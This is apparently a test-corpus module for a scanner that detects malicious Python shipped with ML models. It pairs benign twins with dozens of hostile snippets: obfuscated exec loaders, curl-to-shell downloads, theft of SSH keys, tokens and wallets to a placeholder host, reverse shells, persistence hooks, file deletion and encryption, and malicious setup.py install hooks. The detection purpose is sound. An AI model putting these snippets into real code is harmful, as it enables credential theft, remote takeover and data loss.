# ruff: noqa: E501  # programs, one text each
"""Python that ships with a model and attacks whoever imports, installs or runs it; texts only, never executed."""

from __future__ import annotations

import base64
import codecs
import zlib
from typing import TYPE_CHECKING, Final

from corpora.case import Case, Expectation, Technique

if TYPE_CHECKING:
    from collections.abc import Iterator

HOST: Final = "https://example.invalid"
INNER: Final = b"import os; os.system('touch telamon-canary')"
ENCODED: Final = base64.b64encode(INNER).decode()
LONG: Final = base64.b64encode(INNER * 6).decode()
MODEL: Final = "import torch\n\n\nclass Net(torch.nn.Module):\n    def forward(self, x):\n        return x\n\n\n"
SSH: Final = "import os, urllib.request\nkey = open(os.path.expanduser('~/.ssh/id_rsa'), 'rb').read()\n"

HIDDEN_CODE: Final = {
    "exec of base64": f"import base64\nexec(base64.b64decode('{ENCODED}'))\n",
    "exec of base64 by an alias": f"from base64 import b64decode as d\nrun = exec\nrun(d('{ENCODED}'))\n",
    "exec of hex": f"exec(bytes.fromhex('{INNER.hex()}').decode())\n",
    "exec of compressed": f"import zlib\nexec(zlib.decompress({zlib.compress(INNER)!r}))\n",
    "exec of compressed base64": f"import base64, zlib\nexec(zlib.decompress(base64.b64decode({base64.b64encode(zlib.compress(INNER))!r})))\n",
    "exec of rot13": f"import codecs\nexec(codecs.decode({codecs.encode(INNER.decode(), 'rot13')!r}, 'rot13'))\n",
    "exec of base85": f"import base64\nexec(base64.b85decode({base64.b85encode(INNER)!r}))\n",
    "exec of numbers": f"exec(''.join(map(chr, {list(INNER)})))\n",
    "exec of numbers in a comprehension": f"exec(''.join(chr(c) for c in {list(INNER)}))\n",
    "exec of masked numbers": f"exec(''.join(chr(c ^ 23) for c in {[c ^ 23 for c in INNER]}))\n",
    "exec of a reversed text": f"exec({INNER.decode()[::-1]!r}[::-1])\n",
    "exec of bytes": f"exec(bytes({list(INNER)}))\n",
    "exec of a compiled text": f"import base64\nexec(compile(base64.b64decode('{ENCODED}'), 'x', 'exec'))\n",
    "eval of base64": f"import base64\neval(compile(base64.b64decode('{ENCODED}'), 'x', 'exec'))\n",
    "exec by builtins": f"import builtins, base64\nbuiltins.exec(base64.b64decode('{ENCODED}'))\n",
    "exec by the namespace": f"import base64\n__builtins__.__dict__['exec'](base64.b64decode('{ENCODED}'))\n",
    "exec by globals": f"import base64\nglobals()['__builtins__']['exec'](base64.b64decode('{ENCODED}'))\n",
    "exec by vars": f"import base64, builtins\nvars(builtins)['ex' + 'ec'](base64.b64decode('{ENCODED}'))\n",
    "exec by map": f"import base64\nlist(map(exec, [base64.b64decode('{ENCODED}')]))\n",
    "exec by a function": f"import base64\ndef run(f, x):\n    f(x)\nrun(exec, base64.b64decode('{ENCODED}'))\n",
    "exec through a class": f"import base64\nclass A:\n    code = base64.b64decode('{ENCODED}')\n    def __init__(self):\n        exec(self.code)\nA()\n",
    "exec in a class body": f"import base64\nclass Config:\n    exec(base64.b64decode('{ENCODED}'))\n",
    "exec in a decorator": f"import base64\ndef hook(f):\n    exec(base64.b64decode('{ENCODED}'))\n    return f\n@hook\ndef load():\n    pass\n",
    "exec in a default": f"import base64\ndef load(x=exec(base64.b64decode('{ENCODED}'))):\n    return x\n",
    "exec of a custom decoder": f"def d(s, k):\n    return bytes(a ^ k for a in s)\nexec(d(bytes.fromhex('{bytes(c ^ 7 for c in INNER).hex()}'), 7))\n",
    "exec of a long constant": f"from _codec import undo\nexec(undo('{LONG}'))\n",
    "exec far to the right": f"import base64;{' ' * 300}exec(base64.b64decode('{ENCODED}'))\n",
    "exec of a chained text": f"parts = ['{ENCODED[:20]}', '{ENCODED[20:]}']\nimport base64 as b\nexec(b.b64decode(''.join(parts)).decode())\n",
    "marshalled code": f"import marshal, base64\nexec(marshal.loads(base64.b64decode('{LONG}')))\n",
    "marshalled code as a function": f"import marshal, types, zlib\nf = types.FunctionType(marshal.loads(zlib.decompress(b'{LONG}')), globals())\nf()\n",
    "pickle in a constant": f"import pickle, base64\npickle.loads(base64.b64decode('{LONG}'))\n",
    "exec in exec": f"exec('import base64; exec(base64.b64decode(\"{ENCODED}\"))')\n",
    "import by a made name": "__import__('o' + 's').system('touch telamon-canary')\n",
    "attribute by a made name": "import os\ngetattr(os, 'sys' + 'tem')('touch telamon-canary')\n",
    "attribute by a reversed name": "import os\ngetattr(os, 'metsys'[::-1])('touch telamon-canary')\n",
    "attribute by a decoded name": "import os, base64\ngetattr(os, base64.b64decode('c3lzdGVt').decode())('touch telamon-canary')\n",
    "attribute by numbers": "import os\ngetattr(os, ''.join(map(chr, [115, 121, 115, 116, 101, 109])))('touch telamon-canary')\n",
    "module by a decoded name": "import importlib, base64\nimportlib.import_module(base64.b64decode(b'b3M=').decode()).system('touch telamon-canary')\n",
    "name in the modules": "import sys, os\ngetattr(sys.modules['o' 's'], 'po' + 'pen')('touch telamon-canary')\n",
    "letters beyond ASCII": f"import base64\n\U0001d41e\U0001d431\U0001d41e\U0001d41c(base64.b64decode('{ENCODED}'))\n",
    "command decoded": "import os, base64\nos.system(base64.b64decode('dG91Y2ggdGVsYW1vbi1jYW5hcnk=').decode())\n",
    "code of a fernet": f"from cryptography.fernet import Fernet\nexec(Fernet(b'k').decrypt(b'{LONG}'))\n",
}
DOWNLOADS: Final = {
    "module fetched": "import importlib.util, urllib.request\nurllib.request.urlretrieve('http://example.invalid/x.py', '/tmp/x.py')\ns = importlib.util.spec_from_file_location('x', '/tmp/x.py')\nm = importlib.util.module_from_spec(s)\ns.loader.exec_module(m)\n",
    "Python within Python": f"import subprocess, sys\nsubprocess.Popen([sys.executable, '-c', 'import requests;exec(requests.get(\"{HOST}\").text)'])\n",
    "exec of requests": f"import requests\nexec(requests.get('{HOST}/p').text)\n",
    "exec of urlopen": f"from urllib.request import urlopen\nexec(urlopen('{HOST}/p').read())\n",
    "exec in a thread": f"import threading, requests\ndef go():\n    exec(requests.get('{HOST}/p').text)\nthreading.Thread(target=go).start()\n",
    "exec through returns": f"import requests\ndef fetch(u):\n    r = requests.get(u)\n    return r.content.decode()\ndef run(s):\n    eval(compile(s, 'x', 'exec'))\nrun(fetch('{HOST}/p'))\n",
    "exec of a session": f"import requests\ns = requests.Session()\nwith s.get('{HOST}/p') as r:\n    exec(r.text)\n",
    "exec of httpx": f"import httpx as h\nexec(h.get('{HOST}/p').text)\n",
    "exec in forward": f"import torch, requests\nclass Net(torch.nn.Module):\n    def forward(self, x):\n        exec(requests.get('{HOST}/p').text)\n        return x\n",
    "program fetched and started": f"import urllib.request, subprocess, os\nurllib.request.urlretrieve('{HOST}/p', '/tmp/.p')\nos.chmod('/tmp/.p', 0o755)\nsubprocess.Popen(['/tmp/.p'])\n",
    "program written and started": f"import requests, os\npath = os.path.join('/tmp', 'p')\nwith open(path, 'wb') as f:\n    f.write(requests.get('{HOST}/p').content)\nos.system('chmod +x ' + path + ' && ' + path)\n",
    "pipe into a shell": f"import os\nos.system('curl -s {HOST}/p | sh')\n",
    "pipe into a shell as words": f"import subprocess\nsubprocess.run(['bash', '-c', 'wget -qO- {HOST}/p | bash'])\n",
    "library fetched": f"import urllib.request, ctypes\nurllib.request.urlretrieve('{HOST}/l.so', '/tmp/l.so')\nctypes.CDLL('/tmp/l.so')\n",
    "pickle fetched without TLS": "import requests, pickle\npickle.loads(requests.get('http://example.invalid/p').content)\n",
    "code of a DNS answer": "import dns.resolver\nexec(dns.resolver.resolve('example.invalid', 'TXT')[0].strings[0])\n",
    "command of a server": f"import requests, subprocess\nsubprocess.run(requests.get('{HOST}/c').text, shell=True)\n",
}
EXFILTRATION: Final = {
    "key in a global": f"import requests\ndef f():\n    global k\n    k = open('/root/.ssh/id_rsa').read()\nf()\nrequests.post('{HOST}', data=k)\n",
    "key copied first": f"import shutil, requests\nshutil.copy('/root/.ssh/id_rsa', '/tmp/a')\nrequests.post('{HOST}', files={{'a': open('/tmp/a')}})\n",
    "environment of a command": f"import subprocess, requests\nrequests.post('{HOST}', data=subprocess.check_output('env', shell=True))\n",
    "key by urlopen": SSH + f"urllib.request.urlopen('{HOST}/', data=key)\n",
    "key by requests": f"import requests\nfrom pathlib import Path\nrequests.post('{HOST}', files={{'f': (Path.home() / '.ssh' / 'id_rsa').open('rb')}})\n",
    "key by a socket": SSH + "import socket\ns = socket.create_connection(('example.invalid', 9))\ns.sendall(key)\n",
    "key in an address": f"import requests, base64\nk = open('/root/.aws/credentials').read()\nrequests.get(f'{HOST}/?k={{base64.b64encode(k.encode()).decode()}}')\n",
    "key by mail": "import smtplib\ns = smtplib.SMTP('example.invalid')\ns.sendmail('a', 'b', open('/root/.netrc').read())\n",
    "key through a dictionary": f"import os, json, requests\nloot = {{}}\nfor n in ('.aws/credentials', '.npmrc'):\n    loot[n] = open(os.path.expanduser('~/' + n)).read()\nrequests.post('{HOST}', data=json.dumps(loot))\n",
    "key by FTP": "import ftplib\nftplib.FTP('example.invalid').storbinary('STOR k', open('/root/.ssh/id_ed25519', 'rb'))\n",
    "key in a model": f"import torch, requests, os\nclass Net(torch.nn.Module):\n    def __init__(self):\n        super().__init__()\n        self.t = open(os.path.expanduser('~/.huggingface/token')).read()\n        requests.post('{HOST}', json={{'t': self.t}})\n",
    "archive of keys": f"import zipfile, requests, os\nz = zipfile.ZipFile('/tmp/a.zip', 'w')\nz.write(os.path.expanduser('~/.ssh/id_rsa'))\nrequests.post('{HOST}', files={{'f': z}})\n",
    "browser": f"import os, requests\np = os.path.expanduser('~/.config/google-chrome/Default/Login Data')\nrequests.post('{HOST}', data=open(p, 'rb'))\n",
    "wallet": f"import os, requests\nd = open(os.path.join(os.environ['APPDATA'], 'Exodus', 'exodus.wallet', 'seed.seco'), 'rb').read()\nrequests.post('{HOST}', data=d)\n",
    "environment": f"import os, requests\nrequests.post('{HOST}', json=dict(os.environ))\n",
    "environment by urlopen": f"import os, json\nfrom urllib import request as r\nr.urlopen(r.Request('{HOST}', data=json.dumps(os.environ.copy()).encode()))\n",
    "environment item by item": f"import os, requests\nout = []\nfor k, v in os.environ.items():\n    out.append(f'{{k}}={{v}}')\nrequests.post('{HOST}', data=chr(10).join(out))\n",
    "environment in a function": f"import os, requests\ndef collect():\n    return {{k: v for k, v in os.environ.items() if 'KEY' in k}}\ndef send(x):\n    requests.post('{HOST}', json=x)\nsend(collect())\n",
    "token of another": f"import os, requests\nrequests.post('{HOST}/c', json={{'t': os.environ['AWS_SECRET_ACCESS_KEY']}})\n",
    "many tokens": f"import os, requests\nrequests.post('{HOST}', json=[os.getenv('A_TOKEN'), os.getenv('B_SECRET'), os.getenv('C_PASSWORD')])\n",
    "clipboard": f"import pyperclip, requests\nwhile True:\n    requests.post('{HOST}', data=pyperclip.paste())\n",
    "screen": f"from PIL import ImageGrab\nimport requests\nrequests.post('{HOST}', files={{'i': ImageGrab.grab()}})\n",
    "keys pressed": f"import keyboard, requests\nkeyboard.on_press(lambda e: requests.post('{HOST}', data=e.name))\n",
    "home directory": f"import os, requests\nfor d, _, fs in os.walk(os.path.expanduser('~')):\n    for f in fs:\n        requests.post('{HOST}', files={{'f': open(os.path.join(d, f), 'rb')}})\n",
    "keyring": f"import keyring, requests\nrequests.post('{HOST}', data=keyring.get_password('system', 'root'))\n",
    "metadata of the cloud": f"import requests\nc = requests.get('http://169.254.169.254/latest/meta-data/iam/security-credentials/r').text\nrequests.post('{HOST}', data=c)\n",
    "name lookup": "import socket, base64, os\nk = open(os.path.expanduser('~/.ssh/id_rsa'), 'rb').read()\nsocket.gethostbyname(base64.b32encode(k).decode()[:60] + '.example.invalid')\n",
    "key by curl": f"import subprocess\nsubprocess.run('curl -d @/root/.ssh/id_rsa {HOST}', shell=True)\n",
}
CONTROL: Final = {
    "reverse shell": "import socket, os, pty\ns = socket.socket()\ns.connect(('example.invalid', 9))\nfor f in (0, 1, 2):\n    os.dup2(s.fileno(), f)\npty.spawn('/bin/sh')\n",
    "reverse shell in one line": "import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(('example.invalid',9));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);subprocess.call(['/bin/sh','-i'])\n",
    "reverse shell by Popen": "import socket, subprocess\ns = socket.create_connection(('example.invalid', 9))\nsubprocess.Popen(['/bin/sh'], stdin=s, stdout=s, stderr=s)\n",
    "commands over a socket": "import socket, subprocess\ns = socket.socket()\ns.connect(('example.invalid', 9))\nwhile True:\n    c = s.recv(1024).decode()\n    s.send(subprocess.check_output(c, shell=True))\n",
    "commands over a socket through a function": "import socket, os\ndef run(c):\n    return os.popen(c).read()\ns = socket.socket()\ns.connect(('example.invalid', 9))\ns.send(run(s.recv(99).decode()).encode())\n",
    "shell's own connection": "import os\nos.system('bash -i >& /dev/tcp/203.0.113.9/9 0>&1')\n",
    "netcat": "import subprocess\nsubprocess.Popen('nc -e /bin/sh example.invalid 9', shell=True)\n",
}
PERSISTENCE: Final = {
    "profile": f"import os\nopen(os.path.expanduser('~/.bashrc'), 'a').write('curl {HOST} | sh')\n",
    "profile by pathlib": "from pathlib import Path\np = Path.home() / '.profile'\np.write_text('x')\n",
    "keys to log in": "import os\nwith open(os.path.expanduser('~/.ssh/authorized_keys'), 'a') as f:\n    f.write('ssh-ed25519 AAAA')\n",
    "schedule": f"import os\nos.system('(crontab -l; echo \"* * * * * curl {HOST} | sh\") | crontab -')\n",
    "service": "import os\nopen('/etc/systemd/system/x.service', 'w').write('[Service]')\n",
    "start of Python": "import site, os\nopen(os.path.join(site.getsitepackages()[0], 'sitecustomize.py'), 'w').write('import x')\n",
    "path file": "import site\nopen(site.getsitepackages()[0] + '/site-packages/x.pth', 'w').write('import x')\n",
    "Windows": "import winreg\nk = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r'Software\\Microsoft\\Windows\\CurrentVersion\\Run', 0, winreg.KEY_SET_VALUE)\nwinreg.SetValueEx(k, 'x', 0, winreg.REG_SZ, 'x.exe')\n",
    "macOS": "import os\nopen(os.path.expanduser('~/Library/LaunchAgents/x.plist'), 'w').write('x')\n",
    "preload": "open('/etc/ld.so.preload', 'w').write('/tmp/l.so')\n",
    "hook of git": "open('.git/hooks/pre-commit', 'w').write('x')\n",
    "copy to the start folder": "import shutil, os\nshutil.copy(__file__, os.path.expanduser('~/.config/autostart/x.desktop'))\n",
}
HARM: Final = {
    "home deleted": "import shutil, os\nshutil.rmtree(os.path.expanduser('~'))\n",
    "root deleted": "import os\nos.system('rm -rf / --no-preserve-root')\n",
    "home by pathlib": "import shutil\nfrom pathlib import Path\nshutil.rmtree(Path.home())\n",
    "files of the home": "import os\nfor d, _, fs in os.walk(os.path.expanduser('~')):\n    for f in fs:\n        os.remove(os.path.join(d, f))\n",
    "files encrypted": "import os\nfrom cryptography.fernet import Fernet\nk = Fernet(Fernet.generate_key())\nfor d, _, fs in os.walk('/home'):\n    for f in fs:\n        p = os.path.join(d, f)\n        data = open(p, 'rb').read()\n        open(p, 'wb').write(k.encrypt(data))\n",
    "miner": "import subprocess\nsubprocess.Popen(['./xmrig', '-o', 'stratum+tcp://example.invalid:3333'])\n",
    "history wiped": "import os\nos.system('history -c; rm -f ~/.bash_history')\n",
    "audit stopped": "import subprocess\nsubprocess.run(['systemctl', 'stop', 'auditd'])\n",
    "direction of writing": "access = 'user'\nif access != 'none\u202e\u2066# admin\u2069 \u2066':\n    pass\n",
    "early return": "def f():\n    '''Check then \u2067''' ;return\n    audit()\n",
    "mixed alphabets": "def is_\u0430dmin():\n    return True\n",
    "invisible name": "\u3164 = 1\n",
    "invisible data": "x = '" + "\ufe01\ufe02\ufe03\ufe04" * 8 + "'\n",
    "wallet swapped": "import pyperclip\npyperclip.copy('0x" + "ab" * 20 + "')\n",
}
GROUPS: Final = {
    "hidden": HIDDEN_CODE, "download": DOWNLOADS, "exfiltration": EXFILTRATION, "control": CONTROL, "persistence": PERSISTENCE, "harm": HARM,
}  # fmt: skip  # one table
INSTALL: Final = {
    "command class": f"from setuptools import setup\nfrom setuptools.command.install import install\nclass Post(install):\n    def run(self):\n        install.run(self)\n        import os\n        os.system('curl -s {HOST}/p | sh')\nsetup(name='x', cmdclass={{'install': Post}})\n",
    "beacon": f"import socket, getpass, urllib.request\nurllib.request.urlopen('{HOST}/?h=' + socket.gethostname() + '&u=' + getpass.getuser())\nfrom setuptools import setup\nsetup(name='x')\n",
    "drop box": "import requests\nfrom setuptools import setup\nrequests.get('https://webhook.site/0000')\nsetup(name='x')\n",
    "environment": f"from setuptools import setup\nimport os, requests\nrequests.post('{HOST}', data=dict(os.environ))\nsetup(name='x')\n",
    "egg_info": f"from setuptools import setup\nfrom setuptools.command.egg_info import egg_info\nimport base64\nclass E(egg_info):\n    def run(self):\n        exec(base64.b64decode('{ENCODED}'))\nsetup(name='x', cmdclass={{'egg_info': E}})\n",
    "wget by name": "from setuptools import setup\nimport socket, os\nsocket.gethostbyname(f'{os.uname().nodename}.example.invalid')\nsetup()\n",
}
ORDINARY: Final = "import os\nimport subprocess\n\n\ndef version():\n    return subprocess.check_output(['git', 'describe'], text=True)\n"


def cases() -> Iterator[Case]:
    """Yield every construction in a module, and those of installers in a `setup.py`."""
    for group, sources in GROUPS.items():
        for name, source in sources.items():
            yield Case(
                name=f"{group}: {name}", technique=Technique.PYTHON_CODE, data=(MODEL + source).encode(),
                twin=(MODEL + ORDINARY).encode(), expectation=Expectation.PAYLOAD, file_name="modeling_net.py",
            )  # fmt: skip  # one case
    for name, source in INSTALL.items():
        yield Case(
            name=f"install: {name}", technique=Technique.PYTHON_CODE, data=source.encode(),
            twin=b"from setuptools import setup\n\nsetup(name='x', install_requires=['torch'])\n",
            expectation=Expectation.PAYLOAD, file_name="setup.py",
        )  # fmt: skip  # one case
